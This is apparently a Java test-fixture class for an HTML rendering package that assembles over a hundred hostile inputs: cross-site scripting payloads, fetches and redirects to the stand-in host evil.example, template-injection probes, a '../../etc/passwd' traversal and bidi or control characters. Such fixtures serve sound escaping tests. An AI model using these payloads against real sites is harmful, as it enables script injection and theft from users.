package org.hearsay.pages.html;

import java.util.ArrayList;
import java.util.List;

/** Text that would run, load or reorder something if it were taken for anything but text. */
final class Payloads {
  private static final List<String> BODIES =
      List.of("alert(1)", "fetch('//evil.example')", "top.location='//evil.example'");
  private static final List<String> SHAPES =
      List.of(
          "<script>%s</script>",
          "<ScRiPt>%s</sCrIpT>",
          "</title><script>%s</script>",
          "</style><script>%s</script>",
          "--><script>%s</script>",
          "]]><script>%s</script>",
          "</textarea><script>%s</script>",
          "</article></main><script>%s</script>",
          "<img src=x onerror=%s>",
          "<svg onload=%s>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>",
          "<svg><a xlink:href=javascript:%s><text>x</text></a></svg>",
          "<math><mtext></mtext><style><img src=x onerror=%s></style></math>",
          "<body onload=%s>",
          "<details open ontoggle=%s>",
          "<input autofocus onfocus=%s>",
          "<video><source onerror=%s></video>",
          "<iframe src=javascript:%s></iframe>",
          "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
          "<object data=javascript:%s></object>",
          "<embed src=javascript:%s>",
          "<form action=javascript:%s><button>x</button></form>",
          "<a href=javascript:%s>x</a>",
          "\" onmouseover=%s x=\"",
          "' onmouseover=%s x='",
          "` onmouseover=%s x=`",
          "\"><script>%s</script>",
          "'><script>%s</script>",
          "#\" onclick=%s //",
          "javascript:%s",
          "JaVaScRiPt:%s",
          "java\tscript:%s",
          " javascript:%s",
          "&#106;avascript:%s",
          "&lt;script&gt;%s&lt;/script&gt;",
          "&amp;lt;script>%s</script>");
  private static final List<String> OTHERS =
      List.of(
          "data:text/html,<b>x</b>",
          "vbscript:msgbox(1)",
          "//evil.example/x",
          "http://user:pass@evil.example/",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>@import '//evil.example/x.css'</style>",
          "<p style=background:url(//evil.example)>",
          "url(//evil.example/x)",
          "{{constructor.constructor('alert(1)')()}}",
          "${7*7}",
          "<%= 7*7 %>",
          "a\u0000b",
          "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
          "a\u0001\u0008\u000b\u001f\u007f\u0085b",
          "a\r\nb\rc",
          "\u202eevil\u202c",
          "\u2066x\u2069\u2067y\u2069",
          "lone \ud800 surrogate \udc00",
          "pair \ud83d\ude00 whole",
          "\ufeffmark",
          "\ufffe\uffff",
          "line\u2028separator\u2029",
          "<!--",
          "-->",
          "<![CDATA[",
          "</",
          "<",
          "&",
          "&#0;",
          "&#x202e;",
          "\u05e9\u05dc\u05d5\u05dd <b>",
          "\u0645\u0631\u062d\u0628\u0627 \"",
          "\n\n<script>alert(1)</script>\n\n",
          "  ",
          "c1\" id=\"top",
          "../../etc/passwd",
          "%3Cscript%3E");

  private Payloads() {}

  /** More than a hundred of them. */
  static List<String> all() {
    List<String> all = new ArrayList<>(OTHERS);
    for (String shape : SHAPES) {
      for (String body : BODIES) {
        all.add(shape.replace("%s", body));
      }
    }
    return all;
  }
}
